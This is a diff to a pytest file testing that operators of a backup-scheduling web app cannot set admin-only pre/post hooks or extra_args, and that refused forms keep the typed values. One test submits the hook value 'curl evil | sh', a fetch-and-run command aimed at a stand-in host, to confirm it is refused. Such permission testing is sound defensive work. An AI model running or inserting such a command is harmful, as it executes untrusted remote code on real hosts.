@@ -4,7 +4,7 @@ import pytest
 
 from api_support import create_api_token, create_schedule
 from conftest import enroll_host
-from web_support import assert_error_page, browser_for, create_login, form_values, location_path
+from web_support import assert_error_page, assert_form_refused, browser_for, create_login, doc, form_values, location_path
 from web_support import admin_browser, api_admin, web_server  # noqa: F401 (module-scoped fixtures)
 
 
@@ -123,9 +123,11 @@ def test_operator_creates_a_schedule_but_not_hooks(operator, world):
     fields.update(cron_expr="15 4 * * *", paths="/opt\n/srv", tags="op")
     # A hand-made pre_hook is refused, whatever the form looked like.
     response = operator.post(f"/hosts/{host}/schedules", data=dict(fields, pre_hook="curl evil | sh"))
-    assert_error_page(response, 403, "pre_hook", "admin")
+    assert_form_refused(response, 403, "schedule-form", "pre_hook", "admin")
+    # What the operator typed is still in the form.
+    assert form_values(doc(response).by_id("schedule-form"))["paths"] == "/opt\n/srv"
     response = operator.post(f"/hosts/{host}/schedules", data=dict(fields, post_hook="id"))
-    assert_error_page(response, 403, "post_hook")
+    assert_form_refused(response, 403, "schedule-form", "post_hook")
     assert state(world) == before
     response = operator.post(f"/hosts/{host}/schedules", data=fields)
     assert response.status_code == 303, response.text
@@ -147,8 +149,28 @@ def test_operator_edit_keeps_the_admins_hooks(operator, world):
     assert (schedule["pre_hook"], schedule["post_hook"]) == ("echo admin-pre", "echo admin-post")
     # Changing them by hand is refused.
     response = operator.post(f"/schedules/{world['hooked']}", data=dict(fields, pre_hook="echo operator"))
-    assert_error_page(response, 403, "pre_hook")
+    assert_form_refused(response, 403, "schedule-form", "pre_hook")
     assert reader.get(f"/api/v1/schedules/{world['hooked']}").json()["pre_hook"] == "echo admin-pre"
+
+
+def test_operator_edit_keeps_the_admins_extra_args(operator, world, api_admin):
+    """extra_args is admin-only like hooks: an operator may keep it, not change it."""
+    reader, host = world["reader"], world["host"]
+    schedule = create_schedule(api_admin, host, cron_expr="0 5 * * *", paths=["/home"],
+                               options={"extra_args": ["--verbose"], "one_file_system": True})
+    fields = form_values(operator.page(f"/schedules/{schedule['id']}/edit").by_id("schedule-form"))
+    fields["cron_expr"] = "30 5 * * *"
+    response = operator.post(f"/schedules/{schedule['id']}", data=fields)
+    assert response.status_code == 303, response.text
+    stored = reader.get(f"/api/v1/schedules/{schedule['id']}").json()
+    assert stored["cron_expr"] == "30 5 * * *" and stored["options"]["extra_args"] == ["--verbose"]
+    changed = dict(fields, cron_expr="0 6 * * *",
+                   options='{"extra_args": ["--exclude-larger-than", "1G"], "one_file_system": true}')
+    response = operator.post(f"/schedules/{schedule['id']}", data=changed)
+    assert_form_refused(response, 403, "schedule-form", "extra_args")
+    assert form_values(doc(response).by_id("schedule-form"))["cron_expr"] == "0 6 * * *"
+    stored = reader.get(f"/api/v1/schedules/{schedule['id']}").json()
+    assert stored["cron_expr"] == "30 5 * * *" and stored["options"]["extra_args"] == ["--verbose"]
 
 
 @pytest.mark.parametrize("path,fields", [
